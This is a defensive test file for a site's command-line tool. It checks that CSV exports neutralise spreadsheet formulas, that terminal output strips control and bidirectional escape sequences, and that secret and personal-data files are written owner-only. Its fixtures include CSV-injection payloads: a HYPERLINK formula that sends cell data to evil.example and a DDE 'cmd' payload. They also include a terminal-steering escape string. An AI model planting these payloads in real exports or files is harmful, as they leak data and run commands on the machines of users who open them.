/**
 * Data that leaves the site: formulas in spreadsheets, control sequences on terminals, files that others
 * could read.
 */
import { parse } from 'csv-parse/sync';
import { mkdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { commands } from '@/server/site/commands';
import { importEntities } from '@/server/catalogue/import/entities';
import { processTerminal } from '@/server/site/processTerminal';
import { SUBMISSION_KINDS } from '@/server/site/submissions';
import { readTokenSecret } from '@/server/tokenSecret';
import { aTemplate } from '../classes/aTemplate';
import { aClass, storeAnswer } from '../site/aClassDocument';
import { aFullCatalogue } from '../site/aDocument';
import { aSite, type Site } from '../site/aSite';
import { poison } from './poison';

/** Each begins like a formula for a spreadsheet program, some after characters that it skips. */
const FORMULAS = [
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+1+cmd|' /C calc'!A0`,
  '-1+1',
  '@SUM(1)',
  '\uff1d1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff+1+1',
  ' @SUM(1)',
  '\u3000\uff20SUM(1)',
];
/** Like a spreadsheet program's evaluation of a cell; a number with a sign is a number. */
const isFormula = (cell: string): boolean =>
  /^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^-?[\d.]+$/.test(cell);

let site: Site;

beforeAll(async () => {
  site = await aSite();
  const whole: Record<string, object[]> = {
    ...aFullCatalogue(),
    form_templates: [aTemplate()],
    classes: [aClass()],
  };
  const document = Object.fromEntries(
    importEntities.map(({ name, schema }, index) => {
      const turned = [...FORMULAS.slice(index % FORMULAS.length), ...FORMULAS];
      return [name, (whole[name] ?? []).map((row) => poison(schema, row, turned).value)];
    }),
  );
  const { err, exitCode } = await site.run('import', site.file('formulas.json', document));
  // An unknown status is a text, too, and the import tells of it.
  expect([exitCode, err.replace(/^.*: the form is off\..*\n?/gm, '')]).toEqual([0, '']);
  await storeAnswer(site, 1, 'trainees_background', {
    job_relevancy: FORMULAS[0],
    years_experience: FORMULAS[1],
  });
  for (const kind of SUBMISSION_KINDS)
    for (const formula of FORMULAS)
      await site.database.db
        .insertInto('submissions')
        .values({
          kind,
          email: 'a@example.com',
          body: JSON.stringify({
            form_name: formula,
            name: formula,
            enquiry_name: formula,
            [formula]: formula,
          }),
          received_at: new Date(0),
        })
        .execute();
});
afterAll(() => site?.close());

/** Every command that can write CSV, with all its options. */
const EXPORTS: Record<string, readonly string[][]> = {
  export: importEntities.map(({ name }) => [name]),
  submissions: SUBMISSION_KINDS.map((kind) => [kind]),
  class: [['results', 'class-of-january']],
};

it('every command that writes spreadsheets is looked at', () => {
  const writing = commands.filter(({ options, help, parts = {} }) => {
    const words = [help, ...Object.values(parts)].join(' ');
    return options['format'] !== undefined && /\bcsv\b/.test(words);
  });
  expect(writing.map(({ name }) => name).sort()).toEqual(Object.keys(EXPORTS).sort());
});

it.each(Object.entries(EXPORTS).flatMap(([command, all]) => all.map((words) => [command, ...words])))(
  'no cell of %s %s runs in a spreadsheet program',
  async (...words) => {
    const { out, err } = await site.run(...words, '--format', 'csv');
    expect(err).toBe('');
    const cells = (parse(`${out}\n`, { relax_column_count: true }) as string[][]).flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter(isFormula)).toEqual([]);
  },
);

it('formulas come back as they were, so that staff lose nothing', async () => {
  const before = (await site.run('export', 'courses')).out;
  await site.run('export', 'courses', '--format', 'csv', '--out', path.join(site.folder, 'courses.csv'));
  expect(await site.run('import', path.join(site.folder, 'courses.csv'))).toMatchObject({ exitCode: 0 });
  expect((await site.run('export', 'courses')).out).toBe(before);
});

describe('a terminal', () => {
  const STEERING = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202Egpj.exe\u2066\rgone\u007f';
  const written = (isScreen: boolean): { out: string; err: string } => {
    const isTTY = process.stdout.isTTY;
    const listeners = process.stdout.listeners('error');
    const out = jest.spyOn(process.stdout, 'write').mockReturnValue(true);
    const err = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
    try {
      process.stdout.isTTY = isScreen;
      const terminal = processTerminal();
      terminal.out(STEERING);
      terminal.error(STEERING);
      const textOf = (calls: unknown[][]): string => calls.map(([text]) => String(text)).join('');
      return { out: textOf(out.mock.calls), err: textOf(err.mock.calls) };
    } finally {
      process.stdout.isTTY = isTTY;
      for (const listener of process.stdout.listeners('error'))
        if (!listeners.includes(listener)) process.stdout.off('error', listener as () => void);
      out.mockRestore();
      err.mockRestore();
    }
  };
  const STEERS = /(?![\n\t])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;

  it('is not steered by what anybody wrote, whichever command shows it', () => {
    const { out, err } = written(true);
    expect(out).not.toMatch(STEERS);
    expect(err).not.toMatch(STEERS);
    expect(out).toContain('owned');
  });

  it('gives another program the result as it is', () => {
    expect(written(false)).toEqual({
      out: `${STEERING}\n`,
      err: expect.not.stringMatching(STEERS) as string,
    });
  });
});

describe('on the disk', () => {
  const modeOf = (file: string): number => statSync(file).mode & 0o777;

  it('the secret, and the folder that the first start makes for it, are for the server’s user only', () => {
    const dataDir = path.join(site.folder, 'made', 'var');
    readTokenSecret({}, { dataDir, databaseUrl: undefined, environment: 'development' });
    // Root's directory may be traversed, because another user runs the database.
    expect(modeOf(dataDir)).toBe(process.getuid?.() === 0 ? 0o711 : 0o700);
    expect(modeOf(path.join(dataDir, 'token-secret'))).toBe(0o600);
  });

  it('what holds records of people is too, whatever the user’s mask lets through', async () => {
    const mask = process.umask(0);
    try {
      const folder = path.join(site.folder, 'out');
      mkdirSync(folder);
      const to = (name: string): string => path.join(folder, name);
      await site.run('backup', to('backup.gz'));
      await site.run('submissions', 'contact', '--out', to('contact.txt'));
      await site.run('class', 'results', 'class-of-january', '--out', to('results.csv'));
      await site.run('export', 'classes', '--with-answers', '--out', to('classes.json'));
      await site.run('person', '--email', 'a@example.com', '--out', to('person.json'));
      await site.run('export', 'courses', '--out', to('courses.json'));
      await site.run('export', 'all', '--format', 'csv', '--out', to('all'));
      for (const name of ['courses.json', 'all/courses.csv', 'all/resellers.csv', 'all/classes.csv'])
        expect([name, modeOf(to(name)).toString(8)]).toEqual([name, '600']);
      for (const name of ['backup.gz', 'contact.txt', 'results.csv', 'classes.json', 'person.json'])
        expect([name, modeOf(to(name)).toString(8)]).toEqual([name, '600']);
    } finally {
      process.umask(mask);
    }
  });
});
